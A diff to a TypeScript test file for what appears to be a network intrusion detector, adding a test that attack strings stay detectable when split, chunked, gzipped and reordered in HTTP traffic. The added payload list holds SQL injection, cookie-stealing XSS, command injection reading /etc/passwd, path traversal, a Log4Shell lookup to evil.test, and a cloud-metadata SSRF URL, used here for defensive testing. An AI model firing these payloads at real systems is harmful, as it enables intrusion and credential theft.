@@ -9,7 +9,7 @@ import { TEST_KEY } from '../../daemon/identity/privacy-key.ts'
 import { replay } from '../../daemon/topology/replay.ts'
 import { type CapturedFrame, writePcap } from '../mutate/capture-file.ts'
 import { exchange } from '../mutate/exchange.ts'
-import { type Mutator, overlap, reorder, retransmit, splitEvery } from '../mutate/mutators.ts'
+import { type Mutator, overlap, reorder, retransmit, seeded, splitEvery } from '../mutate/mutators.ts'
 
 const folder = mkdtempSync(join(tmpdir(), 'offpath-payload-'))
 afterAll(() => rmSync(folder, { recursive: true, force: true }))
@@ -113,6 +113,44 @@ test('behind an innocent request of the same segment it is found like the plain 
   const innocent = Buffer.from('GET /v1/orders HTTP/1.1\r\nHost: api.shop.test\r\n\r\n')
   const empty = Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
   expect(await found(once(Buffer.concat([innocent, plain]), Buffer.concat([empty, ANSWER])))).toEqual(EXPECTED)
+})
+
+/** One payload of a class each, as the value of a field. */
+const PAYLOADS = [
+  "1' UNION SELECT username, password FROM users-- ",
+  '<script>alert(document.cookie)</script>',
+  '; cat /etc/passwd',
+  '../../../../etc/passwd',
+  '${jndi:ldap://evil.test/a}',
+  'http://169.254.169.254/latest/meta-data/',
+  '{{7*7}}{{self.__init__.__globals__}}',
+]
+
+test('cut, chunked, compressed and pipelined in any way, each payload is found exactly like the plain one', async () => {
+  const random = seeded(17)
+  const upTo = (most: number) => 1 + Math.floor(random() * most)
+  for (const payload of PAYLOADS) {
+    const body = JSON.stringify({ name: 'x', note: payload })
+    const whole = Buffer.concat([Buffer.from(head(`Content-Length: ${body.length}\r\n`)), Buffer.from(body)])
+    const expected = await found(once(whole))
+    expect(expected).toHaveLength(1)
+    const zip = gzipSync(body)
+    const sent = random() < 0.5 ? zip : Buffer.from(body)
+    const encoding = sent === zip ? 'Content-Encoding: gzip\r\n' : ''
+    const parts: Buffer[] = [Buffer.from(head(`${encoding}Transfer-Encoding: chunked\r\n`))]
+    for (let at = 0; at < sent.length; ) {
+      const piece = sent.subarray(at, at + upTo(40))
+      parts.push(Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n'))
+      at += piece.length
+    }
+    const innocent = Buffer.from('GET /v1/orders HTTP/1.1\r\nHost: api.shop.test\r\n\r\n')
+    const empty = Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
+    const before = Math.floor(random() * 3)
+    const request = Buffer.concat([...Array<Buffer>(before).fill(innocent), ...parts, Buffer.from('0\r\n\r\n')])
+    const response = Buffer.concat([...Array<Buffer>(before).fill(empty), ANSWER])
+    const frames = splitEvery(upTo(60))(once(request, response))
+    expect(await found(reorder(upTo(1000))(retransmit(upTo(1000))(frames))), payload).toEqual(expected)
+  }
 })
 
 test('lines of transactions give the same signals as the capture they came from', async () => {
